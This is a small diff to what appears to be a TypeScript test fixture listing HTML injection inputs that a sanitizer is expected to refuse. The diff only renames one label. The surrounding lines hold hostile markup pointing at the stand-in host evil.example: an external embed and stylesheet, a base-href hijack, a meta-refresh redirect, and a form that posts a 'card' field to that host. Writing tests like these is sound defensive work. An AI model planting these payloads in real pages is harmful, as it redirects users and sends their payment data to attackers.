@@ -18,7 +18,7 @@ export const IN_TEXTS: readonly Attack[] = [
   ['an object', '<object data="data:text/html,x"></object>', 'refused'],
   ['an embedded film', '<embed src="https://evil.example/a.swf">', 'refused'],
   ['a style', '<style>body{display:none}</style>', 'refused'],
-  ['a style sheet from elsewhere', '<link rel="stylesheet" href="https://evil.example/a.css">', 'refused'],
+  ['a stylesheet from elsewhere', '<link rel="stylesheet" href="https://evil.example/a.css">', 'refused'],
   ['another base for all addresses', '<base href="https://evil.example/">', 'refused'],
   ['a page that sends its reader away', '<meta http-equiv="refresh" content="0;url=https://evil.example">', 'refused'],
   ['a form that sends elsewhere', '<form action="https://evil.example"><input name="card"></form>', 'refused'],
